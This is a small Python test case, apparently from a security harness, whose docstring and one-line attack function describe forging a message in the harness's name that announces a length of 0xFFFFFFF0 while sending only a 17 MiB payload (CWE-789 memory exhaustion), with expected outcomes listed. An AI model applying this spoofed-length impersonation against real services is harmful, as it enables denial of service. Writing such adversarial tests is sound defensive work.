"""Announce a longer answer than anybody can hold, in the harness's name, and send a little of it.

origin: CWE-789: memory by a length that the other side chose
why: whoever writes with the harness's own nonce is believed to be the harness
control: succeeds
harm: result
expect: error died
"""


def attack(target):
    forge(b'"' + b"x" * (17 << 20) + b'"', length=0xFFFFFFF0)
    os._exit(0)
